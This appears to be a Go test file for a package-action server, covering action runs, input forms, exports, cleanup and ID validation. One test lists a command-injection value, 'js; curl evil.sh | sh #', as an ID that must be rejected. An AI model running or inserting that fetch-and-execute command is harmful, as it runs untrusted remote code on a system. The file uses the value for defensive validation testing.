package action

import (
	"strings"
	"testing"

	actionsv1 "github.com/hearthos/hearth/api/gen/go/hearth/actions/v1"
	metav1 "github.com/hearthos/hearth/api/gen/go/hearth/meta/v1"
	packagesv1 "github.com/hearthos/hearth/api/gen/go/hearth/packages/v1"

	"github.com/hearthos/hearth/api/fault"
	"github.com/hearthos/hearth/server/internal/store"
)

func TestRunHoldsTheActionAgainstItsRow(t *testing.T) {
	t.Parallel()
	const stopped, running = packagesv1.PackageStatus_STATE_STOPPED, packagesv1.PackageStatus_STATE_RUNNING
	for name, c := range map[string]struct {
		metadata string
		state    packagesv1.PackageStatus_State
		input    string
		reason   metav1.Reason // unspecified: it runs
	}{
		"without input":               {`{"name":"X"}`, stopped, ``, 0},
		"with input":                  {`{"name":"X","hasInput":true}`, stopped, `{"a":1}`, 0},
		"hidden runs":                 {`{"name":"X","visibility":"hidden"}`, stopped, ``, 0},
		"input is missing":            {`{"name":"X","hasInput":true}`, stopped, ``, metav1.Reason_REASON_ACTION_INPUT},
		"input is no object":          {`{"name":"X","hasInput":true}`, stopped, `[1]`, metav1.Reason_REASON_ACTION_INPUT},
		"input is not JSON":           {`{"name":"X"}`, stopped, `{`, metav1.Reason_REASON_ACTION_INPUT},
		"disabled":                    {`{"name":"X","visibility":{"disabled":"no"}}`, stopped, ``, metav1.Reason_REASON_ACTION_DISABLED},
		"only running, stopped":       {`{"name":"X","allowedStatuses":"only-running"}`, stopped, ``, metav1.Reason_REASON_ACTION_STATUS},
		"only running, running":       {`{"name":"X","allowedStatuses":"only-running"}`, running, ``, 0},
		"only stopped, running":       {`{"name":"X","allowedStatuses":"only-stopped"}`, running, ``, metav1.Reason_REASON_ACTION_STATUS},
		"only stopped, stopped":       {`{"name":"X","allowedStatuses":"only-stopped"}`, stopped, ``, 0},
		"an action that is not there": {``, stopped, ``, metav1.Reason_REASON_ACTION_NOT_FOUND},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			w := newWorld(t)
			w.put("hello", c.state)
			if c.metadata != "" {
				w.export("hello", "x", c.metadata)
			}
			_, err := w.Run(t.Context(), noon, "hello", "x", "", []byte(c.input))
			if c.reason == 0 && err != nil || c.reason != 0 && !fault.Is(err, c.reason) {
				t.Errorf("%v", err)
			}
			if ran := strings.Contains(w.code.requests(), "hello/actions/x/run"); ran != (c.reason == 0) {
				t.Errorf("it ran: %v\n%s", ran, w.code.requests())
			}
		})
	}
	if _, err := newWorld(t).Run(t.Context(), noon, "absent", "x", "", nil); !fault.Is(err, metav1.Reason_REASON_PACKAGE_NOT_FOUND) {
		t.Errorf("an action of a package that is not installed: %v", err)
	}
}

func TestRunOfAFormItGotAsksForNoOther(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	form, err := w.GetInput(t.Context(), noon, "hello", "set", []byte(`{"a":5}`))
	if err != nil || string(form.Value) != `{"a":1}` {
		t.Fatalf("%v, %v", form, err)
	}
	w.code.result = `{"version":"0","message":"done","value":null,"copyable":false,"qr":false}`
	out, err := w.Run(t.Context(), noon, "hello", "set", form.EventID, []byte(`{"a":5}`))
	if err != nil || !strings.Contains(string(out), `"version":"1"`) {
		t.Fatalf("%s, %v", out, err)
	}
	want := `hello/actions/set/getInput {"prefill":{"a":5}}` + "\n" + `hello/actions/set/run {"input":{"a":5}}`
	if got := w.code.requests(); got != want {
		t.Errorf("the package was asked\n%s\nwant\n%s", got, want)
	}
}

func TestFormIsRefusedForWhatIsNoObject(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	for _, prefill := range []string{`[]`, `7`, `{`, `{} {}`} {
		if _, err := w.GetInput(t.Context(), noon, "hello", "set", []byte(prefill)); !fault.Is(err, metav1.Reason_REASON_ACTION_INPUT) {
			t.Errorf("%s: %v", prefill, err)
		}
	}
	w.export("hello", "plain", `{"name":"Plain"}`)
	if form, err := w.GetInput(t.Context(), noon, "hello", "plain", nil); form != nil || err != nil {
		t.Errorf("an action without input has the form %v, %v", form, err)
	}
}

func TestActionsKeepTheOrderTheyWereExportedIn(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	for _, id := range []string{"b", "a", "set"} {
		w.export("hello", id, `{"name":"`+id+`"}`)
	}
	names := func() string {
		actions, err := w.List("hello")
		if err != nil {
			t.Fatal(err)
		}
		var ids []string
		for _, a := range actions {
			ids = append(ids, a.GetMeta().GetId())
		}
		return strings.Join(ids, " ")
	}
	if got := names(); got != "hello/set hello/b hello/a" {
		t.Errorf("the order is %s", got)
	}
	if err := w.Clear(t.Context(), noon, "hello", []string{"a"}); err != nil {
		t.Fatal(err)
	}
	if got := names(); got != "hello/a" {
		t.Errorf("after clearing all but one: %s", got)
	}
}

func TestRefusedExportWritesNothing(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	before := w.store.Revision()
	for _, id := range []string{"", "a/b", "..", strings.Repeat("x", 5000)} {
		if err := w.Export(t.Context(), noon, "hello", id, []byte(`{"name":"X"}`)); !fault.Is(err, metav1.Reason_REASON_EFFECT_INVALID) {
			t.Errorf("id %.20q: %v", id, err)
		}
	}
	if w.store.Revision() != before {
		t.Error("a refused export was written")
	}
}

func TestForgetLeavesWhatBelongsToOthers(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	w.put("other", packagesv1.PackageStatus_STATE_STOPPED)
	w.export("other", "set", `{"name":"Set"}`)
	for _, pkg := range []string{"hello", "other"} {
		if err := w.CreateTask(t.Context(), noon, pkg, TaskRequest{ReplayID: "t", PackageID: "hello", ActionID: "set"}); err != nil {
			t.Fatal(err)
		}
	}
	if _, err := w.store.Update(t.Context(), noon, func(tx *store.Tx) error { return Forget(tx, "hello", store.NewRoom()) }); err != nil {
		t.Fatal(err)
	}
	if own, foreign := w.task("hello/t"), w.task("other/t"); own != "absent" || foreign != "active" {
		t.Errorf("own task %s, that of another package %s", own, foreign)
	}
	err := w.store.View(func(tx *store.Tx) error {
		left, err := store.List[*actionsv1.Action](tx, "")
		if len(left) != 1 || left[0].GetMeta().GetId() != "other/set" {
			t.Errorf("actions left: %v", left)
		}
		return err
	})
	if err != nil {
		t.Fatal(err)
	}
}

// What a package names is shown to people in commands to run.
func TestIDsOfActionsAndTasksAreHeldAgainstTheirGrammar(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	metadata := []byte(`{"name":"n","description":"","visibility":"enabled","allowedStatuses":"any","hasInput":false}`)
	if err := w.Export(t.Context(), noon, "hello", "well-named", metadata); err != nil {
		t.Fatal(err)
	}
	for _, id := range []string{"", "js; curl evil.sh | sh #", "Set", "a/b", "a--b", "-f", strings.Repeat("a", 200)} {
		if err := w.Export(t.Context(), noon, "hello", id, metadata); !fault.Is(err, metav1.Reason_REASON_EFFECT_INVALID) {
			t.Errorf("an action named %.40q: %v", id, err)
		}
		if err := w.CreateTask(t.Context(), noon, "hello", TaskRequest{ReplayID: "t", PackageID: "hello", ActionID: id}); !fault.Is(err, metav1.Reason_REASON_EFFECT_INVALID) {
			t.Errorf("a task of an action named %.40q: %v", id, err)
		}
		if err := w.CreateTask(t.Context(), noon, "hello", TaskRequest{ReplayID: "t", PackageID: id, ActionID: "set"}); !fault.Is(err, metav1.Reason_REASON_EFFECT_INVALID) {
			t.Errorf("a task of a package named %.40q: %v", id, err)
		}
	}
}

func TestOnlyAnActiveCriticalTaskBlocks(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	blocking := func() bool {
		var blocked bool
		err := w.store.View(func(tx *store.Tx) error {
			task, err := Blocking(tx, "hello")
			blocked = task != nil
			return err
		})
		if err != nil {
			t.Fatal(err)
		}
		return blocked
	}
	for severity, want := range map[string]bool{"optional": false, "important": false, "": false, "critical": true} {
		if err := w.CreateTask(t.Context(), noon, "hello", TaskRequest{ReplayID: "t", PackageID: "hello", ActionID: "set", Severity: severity}); err != nil {
			t.Fatal(err)
		}
		if blocking() != want {
			t.Errorf("severity %q blocks: %v", severity, !want)
		}
		if err := w.ClearTasks(t.Context(), noon, "hello", nil, []byte(`[]`)); err != nil {
			t.Fatal(err)
		}
	}
	if err := w.CreateTask(t.Context(), noon, "hello", TaskRequest{ReplayID: "t", PackageID: "hello", ActionID: "set", Severity: "grave"}); !fault.Is(err, metav1.Reason_REASON_EFFECT_INVALID) {
		t.Errorf("another severity: %v", err)
	}
}
